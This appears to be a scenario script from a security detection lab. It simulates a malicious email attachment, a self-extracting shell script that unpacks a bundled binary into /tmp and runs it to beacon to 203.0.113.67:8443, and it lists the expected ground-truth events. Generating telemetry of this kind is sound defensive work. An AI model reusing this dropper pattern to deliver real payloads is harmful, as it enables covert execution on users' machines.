# One file that is a shell script and an archive.
title="Self-extracting attachment unpacks itself below /tmp and runs what it held"
what="dev saves update.run with Thunderbird and runs it with sh under script(1), which gives it a terminal of its own. The script cuts the archive off its own tail with tail, gzip and tar, changes into a folder below /tmp and runs setup from there; it connects to 203.0.113.67."
host=ws3.example.org user=dev daemons="cron sshd dovecot"

setup() {
  dovecot_config
  mkdir -p "$base/out/s"; cc -O1 -o "$base/out/s/setup" "$lab/lib/stand-ins/beacon.c"
  { printf '#!/bin/sh\n# self-extracting\nd=$(mktemp -d /tmp/selfgz.XXXXXX)\ntail -n +8 "$0" | gzip -dc | tar -C "$d" -xf -\ncd "$d" && ./setup 203.0.113.67 8443\ncd / && rm -rf "$d"\nexit 0\n'; tar -C "$base/out/s" -czf - setup; } > "$base/out/update.run"
}
act() {
  display_up
  small_talk 2
  mail_in --from updates@example.net --to dev@example.org --subject "Update" --attach "$base/out/update.run:application/octet-stream"
  wait_log 'from=<updates@example.net>'; wait_mail dev 1; sleep 1
  thunderbird_save dev update.run Downloads
  ssh_run dev 'script -qc "sh Downloads/update.run" /dev/null >/dev/null'
  small_talk 1
}
truth() {
  mail_step deliver 'to=<dev@example.org>.*status=sent' 'the message is delivered'
  file_step save 'thunderbird.*/home/dev/Downloads/update.run' 'the client writes the attachment'
  exec_step execute 'sh Downloads/update.run' 'a shell runs it'
  exec_step inner 'setup 203.0.113.67 8443' 'what it held is started'
  net_step beacon 'setup 203.0.113.67:8443' 'and calls out'
}
